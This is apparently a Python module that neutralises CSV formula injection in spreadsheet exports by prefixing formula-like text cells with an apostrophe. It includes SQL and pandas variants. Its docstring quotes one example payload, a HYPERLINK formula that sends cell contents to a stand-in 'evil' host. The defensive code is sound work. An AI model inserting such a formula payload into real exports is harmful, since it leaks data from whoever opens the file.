"""CSV cells that a spreadsheet will not run as formulas.

Excel, LibreOffice and Google Sheets treat a cell that starts with `=`, `+`, `-` or `@` as a
formula (and a leading tab or carriage return can hide one), so a worker's comment such as
`=HYPERLINK("http://evil/?"&A1, "click")` would run on a researcher's machine when the export is
opened (OWASP, "CSV Injection"). Every CSV Concord writes goes through `csv_cell` (or the
`writer` wrapper around `csv.writer`): such a text cell gets a leading apostrophe, which the
spreadsheet shows as text and does not display. Numbers stay numbers: an `int`, `float` or
`Decimal`, and a text that is a plain decimal number such as `-1.5` or `+3`, are written as they
are, since no spreadsheet reads them as formulas. JSONL and Parquet exports keep the raw value.

To read such a CSV back with the raw text, drop one leading `'` from a text cell whose next
character is one of `= + - @ \\t \\r`.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import TYPE_CHECKING, Any, Protocol

if TYPE_CHECKING:
    import pandas as pd

FORMULA_STARTS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def csv_cell(value: Any) -> Any:
    """Return `value` safe to write as one CSV cell: a formula-like text gets a leading `'`.

    Non-text values (numbers, None, booleans) come back unchanged, as does a text that is a plain
    number; `csv.writer` formats them as before.
    """
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _PLAIN_NUMBER.match(value):
        return value
    return "'" + value


def csv_cell_sql(text: str) -> str:
    """The SQL (PostgreSQL) of `csv_cell` for a text expression, for CSV that the database
    writes itself (the raw-row exports): the same starts, the same plain-number exception."""
    starts = ", ".join(f"chr({ord(start)})" for start in FORMULA_STARTS)
    number = _PLAIN_NUMBER.pattern.replace("\\d", "[0-9]")
    return (
        f"CASE WHEN left({text}, 1) IN ({starts}) AND {text} !~ '{number}' "
        f"THEN chr(39) || {text} ELSE {text} END"
    )


def csv_row(row: Iterable[Any]) -> list[Any]:
    """Return a row with every cell passed through `csv_cell`."""
    return [csv_cell(value) for value in row]


class _Writable(Protocol):
    def write(self, s: str, /) -> object: ...


class SafeWriter:
    """`csv.writer` whose rows go through `csv_cell` first; the same arguments as `csv.writer`."""

    def __init__(self, out: _Writable, **kwargs: Any) -> None:
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]) -> object:
        return self._writer.writerow(csv_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: _Writable, **kwargs: Any) -> SafeWriter:
    """Return a formula-safe CSV writer over `out` (a file, a StringIO, an HttpResponse)."""
    return SafeWriter(out, **kwargs)


def csv_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """Return a copy of a DataFrame whose text columns went through `csv_cell` (for `to_csv`).

    Numeric, boolean and datetime columns are left as they are, so they keep their CSV format.
    """
    import pandas as pd

    out = frame.copy()
    for name in out.columns:
        column = out[name]
        if pd.api.types.is_object_dtype(column) or pd.api.types.is_string_dtype(column):
            out[name] = column.map(csv_cell, na_action="ignore")
    return out
